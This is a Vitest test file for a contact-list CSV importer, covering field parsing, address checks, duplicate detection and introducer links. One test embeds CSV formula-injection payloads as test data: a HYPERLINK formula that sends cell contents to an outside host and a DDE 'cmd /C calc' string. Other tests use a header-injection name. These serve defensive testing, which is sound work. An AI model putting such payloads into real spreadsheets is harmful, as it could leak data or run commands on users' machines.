import { readFileSync } from "node:fs";
import { describe, expect, it } from "vitest";
import { preflight } from "../../src/contacts/preflight.ts";
import { readTable } from "../../src/contacts/read-table.ts";
import { sayPreflight } from "../../src/contacts/say-preflight.ts";
import type { Contact } from "../../src/core/contact.ts";
import { toContactId, toMailboxId } from "../../src/core/keys.ts";

const mailboxId = toMailboxId("local", "dana@example.com");
const file = (name: string) => readFileSync(new URL(`../fixtures/csv/${name}`, import.meta.url));
const of = (csv: string | Uint8Array, existing: readonly Contact[] = []) =>
  preflight(readTable(typeof csv === "string" ? new TextEncoder().encode(csv) : csv), {
    existing,
    mailboxId,
    owner: "dana@example.com",
  });

describe("an import", () => {
  it("reads every column into its field", () => {
    const { save, waiting, unusable } = of(file("own-names.csv"));
    const priya = save.find((contact) => contact.name === "Priya Raman");
    expect(priya).toEqual({
      contactId: toContactId(mailboxId, "priya@acme.example"),
      name: "Priya Raman",
      email: "priya@acme.example",
      aliases: ["priya@acme.example", "https://www.linkedin.com/in/priya-raman"],
      role: "Head of Analytics",
      company: "Acme Health",
      city: "Chicago",
      country: "US",
      timezone: "America/Chicago",
      language: "en",
      tags: ["alumni", "data"],
      closeness: 2,
      introducer: toContactId(mailboxId, "tom@acme.example"),
      why_them: "Your talk on triage notes stayed with me.",
      findings: [
        {
          about: "person",
          text: "Spoke about triage notes at HealthConf",
          source: "https://conf.example/priya",
          on: "2026-10-01",
        },
      ],
      linkedin: "https://www.linkedin.com/in/priya-raman",
      phone: "+1 312 555 0100",
      notes: "met at the fair",
    });
    expect([waiting, unusable]).toEqual([[], []]);
  });
  it("knows countries and languages by their names in several languages", () => {
    expect(of(file("german-semicolon-1252.csv")).save).toMatchObject([
      { name: "Zoë Müller", country: "DE", language: "de" },
    ]);
    expect(of(file("spanish-utf16-tab.csv")).save).toMatchObject([{ name: "Lucía Núñez", country: "ES" }]);
  });
  it("brings in whoever has no address or no reason yet, and says what they wait for", () => {
    const found = of(file("linkedin.csv"));
    expect(found.save).toHaveLength(2);
    expect(found.waiting.map(({ contact, for: waits }) => [contact.name, waits])).toEqual([
      ["Priya Raman", ["address", "why-them"]],
      ["Jens Vogel", ["why-them"]],
    ]);
  });
  it("makes one recipient of a row at the most (N-4, N-5)", () => {
    const found = of(file("n04-n05-two-addresses.csv"));
    expect(found.save.map((contact) => contact.email)).toEqual(["fine@d.co"]);
    expect(found.unusable).toMatchObject([
      { line: 2, field: "email", why: "holds more than one address", drops: "row" },
      { line: 3, field: "email", why: "holds more than one address", drops: "row" },
    ]);
  });
  it("takes no address and no line break into a name (N-6, N-7)", () => {
    const found = of(file("n06-n07-names.csv"));
    expect(found.save.map((contact) => contact.name)).toEqual(["", "Ann Bcc: evil"]);
    expect(found.unusable).toMatchObject([
      { field: "name", why: "holds an address; a name cannot", drops: "value" },
    ]);
  });
  it("takes what cannot be seen out of a name, and refuses one without letters (N-22)", () => {
    const found = of(file("n22-invisible.csv"));
    expect(found.save.map((contact) => contact.name)).toEqual(["Evil Name", "", "کتاب\u200cها"]);
    expect(found.unusable).toMatchObject([{ line: 3, why: "has no letter in it" }]);
  });
  it("keeps formulas as text (N-1, N-2, N-3)", () => {
    expect(of(file("n01-n03-formulas.csv")).save).toMatchObject([
      { notes: '=HYPERLINK("http://e.co?"&A1,"x")', company: "@SUM(1+1)*cmd|' /C calc'!A0" },
      { notes: "=1+1", company: "＝1+1" },
    ]);
  });
  it("refuses addresses that are none, are a machine's, look like others, or are the owner's own (N-18, N-19, N-20)", () => {
    const found = of(file("n18-n20-addresses.csv"));
    expect(found.save).toEqual([]);
    expect(found.unusable.map(({ line }) => line)).toEqual([2, 3, 4, 5, 6, 7, 8, 9, 10, 11]);
    expect(found.unusable.at(-1)).toMatchObject({ why: "is your own address" });
  });
  it("takes a finding only with its source and a date that can be read in one way (S02, N-17)", () => {
    const found = of(file("n17-dates.csv"));
    expect(found.save.map((contact) => contact.findings.map(({ on }) => on))).toEqual([
      [],
      ["2026-04-13"],
      [],
      [],
    ]);
    expect(found.unusable.map(({ why }) => why)).toEqual([
      "could be 2026-04-03 or 2026-03-04",
      "has no source",
      "has no date",
    ]);
  });
  it("says which zone was probably meant", () => {
    const next = (zone: string) => of(`email,timezone\na@b.co,${zone}`).unusable[0]?.next;
    expect(next("EST")).toContain("Did you mean America/New_York?");
    expect(next("Chicago")).toContain("Did you mean America/Chicago?");
    expect(next("Europe/Berln")).toContain("Did you mean Europe/Berlin?");
  });
  it("names the columns that it reads nothing from", () => {
    expect(of("email,Shoe size\na@b.co,40").unused).toEqual([
      { heading: "Shoe size", why: "not a column that is known" },
    ]);
  });
});

describe("the same person", () => {
  it("in one file, by the spellings of a Gmail address, is one contact (N-21)", () => {
    const found = of(file("n21-gmail.csv"));
    expect(found.save).toMatchObject([
      { contactId: toContactId(mailboxId, "jdoe@gmail.com"), name: "Jay Doe", email: "j.doe+x@gmail.com" },
    ]);
    expect(found.samePersonTwice).toMatchObject([
      { line: 3, firstLine: 2, differs: [{ field: "name", from: "Jay Doe", to: "J. Doe" }] },
    ]);
  });
  it("keeps the id under which they first came in, whatever is learnt about them", () => {
    const first = of("name,linkedin,company\nPriya Raman,linkedin.com/in/priya,Acme").save;
    const second = of(
      "name,linkedin,email\nPriya Raman,https://www.linkedin.com/in/Priya/,priya@acme.co",
      first,
    );
    expect(second.changed).toMatchObject([{ changes: [{ field: "email", from: "", to: "priya@acme.co" }] }]);
    const third = of("name,email\nP. Raman-Cole,priya@acme.co", second.save);
    expect(third.save.map((contact) => contact.contactId)).toEqual(first.map((contact) => contact.contactId));
    expect(third.changed).toMatchObject([
      { changes: [{ field: "name", from: "Priya Raman", to: "P. Raman-Cole" }] },
    ]);
  });
  it("is found by name and company where there is nothing else", () => {
    const first = of("name,company\nTom Reyes,Acme").save;
    const second = of("name,company,email\nTom Reyes,Acme,tom@acme.co", first);
    expect(second.save).toMatchObject([{ contactId: first[0]?.contactId, email: "tom@acme.co" }]);
    expect(second.samePersonTwice).toMatchObject([{ by: "name and company" }]);
    expect(of("name,company\nTom Reyes,Other", first).new).toHaveLength(1);
  });
  it("does not get back an address that was replaced", () => {
    const first = of("name,email,linkedin\nTom,old@acme.co,linkedin.com/in/tom").save;
    const second = of("name,email,linkedin\nTom,new@acme.co,linkedin.com/in/tom", first).save;
    const third = of("name,email\nTom,old@acme.co", second);
    expect(third.changed).toEqual([]);
    expect(second[0]?.aliases).toEqual(["new@acme.co", "old@acme.co", "https://www.linkedin.com/in/tom"]);
  });
  it("is not two contacts at once: such a row does not come in", () => {
    const before = of("name,email,linkedin\nA,a@b.co,linkedin.com/in/a\nB,b@b.co,linkedin.com/in/b").save;
    const found = of("email,linkedin\na@b.co,linkedin.com/in/b", before);
    expect(found.unusable).toMatchObject([{ line: 2, drops: "row" }]);
    expect(found.save).toEqual([]);
  });
});

describe("a second import", () => {
  it("of the same file changes nothing", () => {
    const first = of(file("own-names.csv"));
    const second = of(file("own-names.csv"), first.save);
    expect(second).toMatchObject({ new: [], changed: [], save: [], samePersonTwice: [] });
    expect(second.same).toHaveLength(2);
  });
  it("never erases with an empty cell, and adds tags and findings", () => {
    const first = of(file("own-names.csv")).save;
    const second = of("email,role,company,tags\npriya@acme.example,,Acme Care,speakers; alumni", first);
    expect(second.changed).toMatchObject([
      {
        changes: [
          { field: "company", from: "Acme Health", to: "Acme Care" },
          { field: "tags", from: "alumni; data", to: "alumni; data; speakers" },
        ],
      },
    ]);
    expect(second.save[0]).toMatchObject({
      role: "Head of Analytics",
      why_them: "Your talk on triage notes stayed with me.",
    });
  });
});

describe("an introducer", () => {
  it("is named by address, profile or name, before or after their own row", () => {
    const found = of("name,email,introducer\nA,a@b.co,Tom Reyes\nTom Reyes,tom@b.co,\nC,c@b.co,TOM@b.co");
    const tom = toContactId(mailboxId, "tom@b.co");
    expect(found.save.map((contact) => contact.introducer)).toEqual([tom, undefined, tom]);
  });
  it("who is nobody keeps the row out, so that nobody is written to without the introduction", () => {
    const found = of("name,email,introducer\nTom Reyes,tom@b.co,Nobody Atall\nA,a@b.co,Tom Reyes\nB,b@b.co,");
    expect(found.save.map((contact) => contact.name)).toEqual(["B"]);
    expect(found.unusable).toMatchObject([
      { line: 2, field: "introducer", drops: "row" },
      { line: 3, field: "introducer", drops: "row" },
    ]);
    expect(of("name,email,introducer\nTom Reyes,t@b.co,\nA,a@b.co,Tom Reyse").unusable[0]?.next).toContain(
      "Did you mean Tom Reyes?",
    );
  });
  it("whose name two people have is asked for by address", () => {
    const found = of("name,email,introducer\nTom,t1@b.co,\nTom,t2@b.co,\nA,a@b.co,Tom");
    expect(found.unusable).toMatchObject([{ line: 4, why: "is the name of more than one person" }]);
  });
  it("is not the person themselves", () => {
    const found = of("name,email,introducer\nTom,tom@b.co,tom@b.co");
    expect(found.unusable).toMatchObject([{ why: "is the same person", drops: "value" }]);
    expect(found.save[0]?.introducer).toBeUndefined();
  });
});

describe("the report", () => {
  it("shows counts, the first of each kind, and what to do", () => {
    const said = sayPreflight(of(file("n18-n20-addresses.csv")), 2);
    expect(said).toContain("10 rows: 0 new, 0 changed, 0 the same as before, 10 not coming in.");
    expect(said).toContain('line 3: email "a@b.b');
    expect(said).toContain("this row does not come in; so is line 6");
    expect(said).toContain("… and 5 more");
  });
  it("shows old and new values of what changes", () => {
    const first = of("name,email,company\nTom,tom@b.co,Acme").save;
    expect(sayPreflight(of("name,email,company\nTom,tom@b.co,Other", first))).toContain(
      'company: "Acme" → "Other"',
    );
  });
});
